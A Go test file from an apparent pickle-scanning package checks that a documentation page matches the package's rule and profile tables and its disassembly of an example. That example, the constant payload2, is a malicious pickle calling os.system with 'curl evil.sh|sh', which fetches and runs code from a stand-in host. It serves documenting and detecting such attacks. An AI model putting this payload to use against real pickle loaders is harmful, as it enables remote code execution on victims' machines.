// Checks docs/pickle.md against the tables and the output of the program.

package pickle

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "write the tables of docs/pickle.md instead of comparing with them")

// The tables are between these lines.
const tablesBegin, tablesEnd = "<!-- tables: made by go generate -->\n", "<!-- end of tables -->\n"

func TestPickleDoc(t *testing.T) {
	const name = "../docs/pickle.md"
	text, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	head, rest, ok := strings.Cut(string(text), tablesBegin)
	old, tail, also := strings.Cut(rest, tablesEnd)
	if !ok || !also {
		t.Fatalf("%s has no place for its tables", name)
	}
	if want := tables(); *update {
		if err := os.WriteFile(name, []byte(head+tablesBegin+want+tablesEnd+tail), 0o666); err != nil {
			t.Fatal(err)
		}
	} else if old != want {
		t.Errorf("the tables of %s are not what the program makes: run go generate ./pickle", name)
	}
	var listing strings.Builder
	code := proto(2) + "}" + uni("weight") + payload2 + "s."
	if err := Disassemble(&listing, strings.NewReader(code), int64(len(code)), nil); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(head, listing.String()) {
		t.Errorf("%s does not show this:\n%s", name, listing.String())
	}
}

// payload2 is the call in the example of the page.
const payload2 = "cos\nsystem\nX\x0f\x00\x00\x00curl evil.sh|sh\x85R"

func tables() string {
	var b strings.Builder
	b.WriteString("\n## Rules\n\n| rule | what is found |\n|---|---|\n")
	for r := range Rules() {
		fmt.Fprintf(&b, "| `%s` | %s |\n", string(r), r.Text())
	}
	b.WriteString("\n## Profiles\n\n| profile | what it allows |\n|---|---|\n")
	for name, text := range Profiles() {
		fmt.Fprintf(&b, "| `%s` | %s |\n", name, text)
	}
	return b.String() + "\n"
}
